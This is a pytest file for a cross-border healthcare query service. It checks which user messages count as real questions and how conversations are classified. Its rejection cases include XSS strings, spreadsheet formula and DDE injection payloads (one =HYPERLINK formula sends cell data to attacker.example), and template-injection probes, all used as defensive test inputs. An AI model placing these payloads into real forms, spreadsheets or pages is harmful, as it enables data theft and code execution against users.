"""The written definition of a bilan request (core/requests.py)."""
from __future__ import annotations

import pytest

from core.requests import classify, is_substantive


@pytest.mark.parametrize("text,recognised", [
    ("Comment me faire rembourser des soins payés en Italie ?", False),
    ("How do I get reimbursed for dental care I had in Spain?", False),
    ("remboursement ?", True),
    ("S2 ?", True),
    ("quel temps fait-il à [LIEU] ?", False),           # out of scope, but a question
    ("mon numéro est [NIR], puis-je être soigné ?", False),
])
def test_real_questions_are_substantive(text, recognised):
    assert is_substantive(text, recognised)


@pytest.mark.parametrize("text,recognised", [
    ("bonjour ?", False), ("hello?", False), ("test", True), ("test test", False), ("asdf", False), ("", False),
    ("<script>alert('x')</script>", True), ("<img src=x onerror=alert(1)>", False), ("javascript:alert(1)", False),
    ('=HYPERLINK("https://attacker.example/?d="&A1,"cliquez ici")', False), ("=1+1", False), ("+1+1", False),
    ("-2+3+cmd|' /c calc'!A0", False), ("@SUM(1+1)*cmd|' /c calc'!A0", True), ("{{7*7}} ${7*7} <%= 7*7 %>", False),
    ("[NIR] [PHONE]", False),
])
def test_garbage_greetings_and_payloads_are_not(text, recognised):
    assert not is_substantive(text, recognised)


def test_classify(monkeypatch):
    monkeypatch.setenv("PCN_TEST_SENDER_PREFIXES", "test- bench-")
    real = [("Puis-je me faire soigner en Belgique ?", False)]
    assert classify(channel="web", conversation_id="w-1", has_ticket=False, questions=real) == "request"
    assert classify(channel="web", conversation_id="w-1", has_ticket=False, questions=[]) == "empty"
    assert classify(channel="web", conversation_id="w-1", has_ticket=False, questions=[("bonjour", False)]) == "garbage"
    assert classify(channel="web", conversation_id="w-1", has_ticket=True, questions=[]) == "request"
    assert classify(channel="phone", conversation_id="phone-1", has_ticket=False, questions=[]) == "request"
    assert classify(channel="web", conversation_id="bench-9", has_ticket=True, questions=real) == "test"
    assert classify(channel="web", conversation_id="w-1", has_ticket=True, questions=real, current="spam") == "spam"
